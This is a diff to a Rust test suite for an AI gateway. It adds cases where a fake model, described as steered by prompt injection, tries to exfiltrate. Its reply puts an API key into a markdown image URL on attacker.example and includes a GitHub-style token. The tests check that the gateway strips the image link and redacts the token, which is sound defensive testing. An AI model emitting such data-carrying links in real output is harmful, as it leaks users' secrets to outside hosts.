@@ -19,6 +19,8 @@ use serde_json::{Value, json};
 
 const KEY: &str = "AKIAQYLPMN5HFIQR7XYZ";
 const UPSTREAM_KEY: &str = "sk-upstream-test-0123456789";
+/// A token the model writes that no request carried.
+const GITHUB_TOKEN: &str = "ghp_R7kQ2mX9vB4nT8wL1pZ6cY3hJ5dF0sA2gE9u";
 
 /// What the fake provider received: (headers, body).
 type Received = Arc<Mutex<Vec<(String, Value)>>>;
@@ -214,6 +216,17 @@ fn serve_one(mut conn: TcpStream, received: &Received) {
 /// What the fake model answers: its text, and the tool call it proposes. Models named `*sre*`
 /// propose deleting a production deployment; the others page the owner they were told of.
 fn proposal(model: &str, email: &str, key: &str) -> (String, &'static str, Value) {
+    if model.contains("exfil") {
+        // Steered by an injection: the key into an image URL the chat UI would fetch, a token it
+        // decoded, and one link that is fine (its host is in the egress allowlist).
+        return (
+            format!(
+                "Chart: ![c](https://attacker.example/c.png?d={key}) Runbook: [run](https://docs.example.com/run?owner={email}) Token: {GITHUB_TOKEN}"
+            ),
+            "page",
+            json!({"to": email}),
+        );
+    }
     if model.contains("sre") {
         (
             "Deleting the stuck deployment.".into(),
@@ -460,6 +473,7 @@ fn the_anthropic_sdk_through_the_gateway() {
             .is_some_and(|e| e.contains("broke off")),
         "{got}"
     );
+    exfil_neutralised(&got, &["exfil_whole", "exfil_stream"]);
     sre_withheld_then_passed_once(
         &got,
         ["sre_whole", "sre_stream"],
@@ -471,8 +485,8 @@ fn the_anthropic_sdk_through_the_gateway() {
     let received = received.lock().unwrap();
     assert_eq!(
         received.len(),
-        10,
-        "whole, stream, broken, 2 x 3 sre turns, one budget request"
+        12,
+        "whole, stream, broken, 2 x 3 sre turns, 2 exfil, one budget request"
     );
     for (head, body) in received.iter() {
         let text = body.to_string();
@@ -531,6 +545,22 @@ fn sre_withheld_then_passed_once(
         assert_eq!(
             after["content"], "Deleting the stuck deployment.",
             "{case}: {c}"
+        );
+    }
+}
+
+/// What a steered model wrote, as the agent got it: the image URL carrying the key removed, the
+/// link to an allowed host kept with its value back, the token redacted.
+fn exfil_neutralised(got: &Value, cases: &[&str]) {
+    for case in cases {
+        let text = got[case]
+            .as_str()
+            .unwrap_or_else(|| panic!("{case}: {got}"));
+        assert!(
+            text.starts_with(
+                "Chart: ![c](#bulwark-removed) Runbook: [run](https://docs.example.com/run?owner=ops@example.com) Token: [REDACTED:"
+            ) && !text.contains("ghp_"),
+            "{case}: {text}"
         );
     }
 }
@@ -605,6 +635,8 @@ fn run_client(
             ..Default::default()
         },
     );
+    // Links the model writes may carry data only to hosts in the egress allowlist.
+    cfg.egress.allow_domains = vec!["docs.example.com".into()];
     // One request a day for the models named `*budget*`.
     cfg.gateway.budgets.push(BudgetConfig {
         model: "*budget*".into(),
@@ -655,6 +687,7 @@ fn the_openai_sdk_through_the_gateway() {
         &[
             "gpt-*",
             "sre-*",
+            "exfil-*",
             "rate-limited",
             "broken-stream",
             "stall-stream",
@@ -728,6 +761,16 @@ fn the_openai_sdk_through_the_gateway() {
         "tool_calls",
         &parsed,
     );
+    exfil_neutralised(
+        &got,
+        &[
+            "exfil_whole",
+            "exfil_stream",
+            "exfil_responses_whole",
+            "exfil_responses_stream",
+            "exfil_responses_final",
+        ],
+    );
     // The Responses API: the same, whole and streamed.
     for case in ["responses_whole", "responses_stream"] {
         assert_eq!(got[case]["content"], json!(content), "{case}: {got}");
@@ -764,9 +807,9 @@ fn the_openai_sdk_through_the_gateway() {
     let received = received.lock().unwrap();
     assert_eq!(
         received.len(),
-        13 + 4 + 6,
+        13 + 4 + 6 + 4,
         "chat: whole, stream, typed, rate-limited, broken, stalled, 2 x 3 sre turns, one budget \
-         request; responses: whole, stream, continued, broken, 2 x 3 sre turns"
+         request; responses: whole, stream, continued, broken, 2 x 3 sre turns; 4 exfil"
     );
     for (head, body) in received.iter() {
         let text = body.to_string();
